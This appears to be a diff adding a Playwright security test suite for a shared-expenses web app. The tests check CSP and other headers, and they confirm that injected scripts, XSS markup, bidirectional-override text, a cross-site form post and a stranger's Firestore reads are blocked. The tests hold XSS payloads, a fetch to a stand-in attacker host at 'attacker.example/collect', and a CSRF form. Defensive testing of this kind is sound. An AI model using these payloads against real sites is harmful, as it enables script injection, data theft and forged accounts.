@@ -1,0 +1,252 @@
+/**
+ * What an attacker meets in a browser: Hosting’s headers, the content security policy, and the refusals of rules and
+ * API.
+ */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { localDate, monthOf } from '@pg/contract/months';
+import { groupExpensesPath, groupPath, monthPath, numberPath } from '@pg/contract/stored';
+import type { Page } from '@playwright/test';
+import { database } from '../support/database.ts';
+import { seeLive } from '../support/e2e/app.ts';
+import { askFirestore, idTokenOf } from '../support/e2e/firestore-from-page.ts';
+import { expect, test, unopened } from '../support/e2e/fixtures.ts';
+import { click, openTab, see, seeHeading, seeNo } from '../support/e2e/ui.ts';
+import { userPath } from '../support/ids.ts';
+import { buildGroup, buildPerson } from '../support/people.ts';
+import { today } from '../support/time.ts';
+
+for (const path of [
+  '/',
+  '/login',
+  '/signup',
+  '/dashboard',
+  '/dashboard/',
+  '/give-take-dashboard',
+  '/give-take-dashboard/',
+  '/firebase-messaging-sw.js',
+]) {
+  test(`${path} is revalidated on every visit, and has the strict content policy`, async ({ request }) => {
+    const headers = (await request.get(path)).headers();
+    expect(headers['cache-control']).toBe('no-cache');
+    expect(headers['content-security-policy']).toContain("default-src 'none'; script-src 'self' ");
+    expect(headers['x-content-type-options']).toBe('nosniff');
+    expect(headers['strict-transport-security']).toContain('max-age=31536000');
+  });
+}
+
+test('a hashed file is cached forever, and an API answer is never cached', async ({ request }) => {
+  const script = /\/assets\/[\w-]+\.js/.exec(await (await request.get('/')).text())?.[0] ?? '';
+  expect((await request.get(script)).headers()['cache-control']).toBe('public, max-age=31536000, immutable');
+  expect((await request.get('/pg/coins-history')).headers()['cache-control']).toBe('private, no-store');
+});
+
+test('messengers get a headline and a picture for a link to the app, the same for every link', async ({ request }) => {
+  const page = await (await request.get('/')).text();
+  expect(page).toContain('property="og:title" content="Shared expenses, without the arguments"');
+  expect(page).toMatch(/property="og:image" content="[^"]*\/icons\/preview\.png"/);
+  const picture = await request.get('/icons/preview.png');
+  expect(picture.headers()['content-type']).toBe('image/png');
+  const bytes = await picture.body();
+  // WhatsApp drops pictures over 600 KB; ours stays below half of that. A PNG has its width and height at byte 16.
+  expect(bytes.length).toBeLessThan(300_000);
+  expect([bytes.readUInt32BE(16), bytes.readUInt32BE(20)]).toEqual([1200, 630]);
+});
+
+declare global {
+  interface Window {
+    violations: string[];
+    owned?: boolean;
+  }
+}
+
+/** Records the policy violations of every page that is opened from now on. */
+async function noteViolations(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    window.violations = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      window.violations.push(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+}
+const violations = (page: Page): Promise<string[]> => page.evaluate(() => window.violations);
+
+test('no screen violates the policy, and the browser blocks injected scripts, images and requests @deep', async ({
+  member,
+}) => {
+  const asha = await member('Asha Rao');
+  const { page } = asha;
+  const ravi = await buildPerson('Ravi Shah');
+  await asha.api.can('setMonthlyLimit', { limit: 1000 });
+  const code = await buildGroup([asha.api, ravi]);
+  await asha.api.can('addExpense', { amount: 40, paymentDate: today().date, tags: ['chai'], groupCodes: [code] });
+  await asha.api.can('giveOrTake', { amount: 10, name: 'Meera', date: today().date, type: 'GIVE' });
+  await noteViolations(page);
+
+  for (const [address, heading] of [
+    ['/', undefined],
+    ['/login', 'Welcome Back'],
+    ['/signup', 'Create Account'],
+    ['/give-take-dashboard', 'Give and Take'],
+    ['/no-such-page', undefined],
+  ] as const) {
+    await page.goto(address);
+    await expect(page.getByRole('main')).toBeVisible();
+    if (heading) await expect(page.getByRole('heading', { name: heading }).first()).toBeVisible();
+    expect(await violations(page), address).toEqual([]);
+  }
+  await page.goto('/dashboard');
+  await seeLive(page);
+  await openTab(page, 'Members');
+  await openTab(page, 'Previous Months');
+  await click(page, 'Add Expense');
+  await expect(page.getByRole('dialog')).toBeVisible();
+  expect(await violations(page)).toEqual([]);
+
+  asha.mayLog(/Content Security Policy/);
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.owned = true';
+    const image = new Image();
+    image.src = 'https://attacker.example/pixel.png';
+    const foreign = document.createElement('script');
+    foreign.src = 'https://attacker.example/own.js';
+    const frame = document.createElement('iframe');
+    frame.src = 'https://attacker.example/';
+    const markup = document.createElement('div');
+    markup.innerHTML = '<img src="/nothing.png" onerror="window.owned = true">';
+    document.body.append(script, image, foreign, frame, markup);
+    fetch('https://attacker.example/collect').catch(() => undefined);
+  });
+  await expect
+    .poll(async () => new Set((await violations(page)).map((each) => each.split('/').slice(0, 3).join('/'))))
+    .toEqual(
+      new Set([
+        'connect-src https://attacker.example',
+        'frame-src https://attacker.example',
+        'img-src https://attacker.example',
+        'script-src-attr inline',
+        'script-src-elem https://attacker.example',
+        'script-src-elem inline',
+      ]),
+    );
+  expect(await page.evaluate(() => window.owned)).toBeUndefined();
+});
+
+test('markup, bidirectional marks and zero-width characters in stored strings appear as text @deep', async ({
+  member,
+}) => {
+  const asha = await member('<script>owned=1</script>');
+  const { page } = asha;
+  const groupName = '<img src=x onerror=owned=1>A&amp;B';
+  const tag = '<i>क्\u200dष</i>';
+  await asha.api.can('setMonthlyLimit', { limit: 1000 });
+  const code = await buildGroup([asha.api], groupName);
+  const { expense } = await asha.api.can('addExpense', {
+    amount: 40,
+    paymentDate: today().date,
+    tags: [tag],
+    groupCodes: [code],
+  });
+  // The API now removes such characters, but older documents may contain them.
+  const turned = '<b>rent</b> \u202e\u2066paid\u2069 \u200f7000\u200b';
+  await database.doc(`${groupExpensesPath(code)}/${expense.id}`).update({ description: turned });
+
+  await page.goto('/dashboard');
+  await seeLive(page);
+  const shown = () => page.evaluate(() => document.body.textContent);
+  for (const text of [groupName, tag, turned, '<script>owned=1</script>']) await expect.poll(shown).toContain(text);
+  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
+  await expect(page.locator('main img, main script, main b, main i')).toHaveCount(0);
+});
+
+const rent = { amount: 7000, paymentDate: localDate(new Date()), tags: ['rent'] };
+const month = monthOf(new Date());
+
+test('a signed-in stranger cannot read the data of a group or of its members @deep', async ({ member }) => {
+  const asha = await member('Asha Rao', unopened);
+  const stranger = await member('Charu Nair', unopened);
+  await asha.api.can('setMonthlyLimit', { limit: 9000 });
+  const code = await buildGroup([asha.api]);
+  const ownCode = await buildGroup([stranger.api], 'Lake View PG');
+  await asha.api.can('addExpense', { ...rent, groupCodes: [code] });
+
+  await stranger.page.goto('/dashboard');
+  await seeHeading(stranger.page, 'Lake View PG');
+  await seeLive(stranger.page);
+
+  stranger.mayLog(/403/);
+  const idToken = await idTokenOf(stranger.page);
+  const ask = (path: string, list = false) => askFirestore(stranger.page, { idToken, path, list });
+
+  for (const [own, others] of [
+    [groupPath(ownCode), groupPath(code)],
+    [userPath(stranger.userId), userPath(asha.userId)],
+  ] as const) {
+    expect(await ask(own), own).toBe(200);
+    expect(await ask(others), others).toBe(403);
+  }
+  expect(await ask(groupExpensesPath(ownCode), true)).toBe(200);
+  expect(await ask(groupExpensesPath(code), true)).toBe(403);
+  expect(await ask(monthPath(code, month))).toBe(403);
+  expect(await ask('groups', true)).toBe(403);
+});
+
+test("a stranger with a group's code in local storage sees nothing of that group @deep", async ({ member }) => {
+  const asha = await member('Asha Rao', unopened);
+  const stranger = await member('Charu Nair');
+  const code = await buildGroup([asha.api]);
+
+  await stranger.page.evaluate((saved) => localStorage.setItem('currentGroupCode', saved), code);
+  await stranger.page.goto('/dashboard');
+  await see(stranger.page, 'No group found. Please create or join a group.');
+
+  await buildGroup([stranger.api], 'Lake View PG');
+  await stranger.page.evaluate((saved) => localStorage.setItem('currentGroupCode', saved), code);
+  await stranger.page.reload();
+  await seeHeading(stranger.page, 'Lake View PG');
+  await seeNo(stranger.page, 'Sunrise PG');
+});
+
+test('a removed member sees a message instead of an empty screen @deep', async ({ member }) => {
+  const asha = await member('Asha Rao', unopened);
+  const former = await member('Charu Nair', unopened);
+  const code = await buildGroup([asha.api, former.api]);
+  const group = database.doc(groupPath(code));
+  const { [former.api.id]: _, ...members } = (await group.get()).data()?.members ?? {};
+  await group.update({ members });
+
+  await former.page.goto('/dashboard');
+  await expect(former.page.getByRole('alert')).toContainText('You are not a member of this group.');
+  await see(former.page, 'Not live');
+});
+
+test('a form on another site cannot create an account @deep', async ({ visitor, baseURL }) => {
+  const charu = await visitor('Charu Nair');
+  charu.mayLog(/403/);
+  const { page, userId } = charu;
+  const isSignedUp = async () => (await database.doc(numberPath(userId)).get()).exists;
+  // A browser sends a plain-text form without a preflight. It writes the field as name=value, so the equals sign
+  // becomes part of the password.
+  const body = `{"name":"Mallory","userId":"${userId}","password":"chai`;
+  const form = `<form method="post" enctype="text/plain" action="${baseURL}/auth/register">
+    <input name='${body}' value='and rent"}'><button>Win a phone</button></form>`;
+  const elsewhere = createServer((_request, response) => {
+    response.writeHead(200, { 'content-type': 'text/html' }).end(form);
+  });
+  await new Promise<void>((listening) => elsewhere.listen(0, 'localhost', listening));
+  try {
+    await page.goto(`http://localhost:${(elsewhere.address() as AddressInfo).port}/`);
+    await page.getByRole('button', { name: 'Win a phone' }).click();
+    await see(page, /"error":"cross-site"/);
+    expect(await isSignedUp()).toBe(false);
+
+    // The same form works on the app's own site.
+    await page.goto('/login');
+    await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), form);
+    await page.getByRole('button', { name: 'Win a phone' }).click();
+    await expect.poll(isSignedUp).toBe(true);
+  } finally {
+    elsewhere.close();
+  }
+});
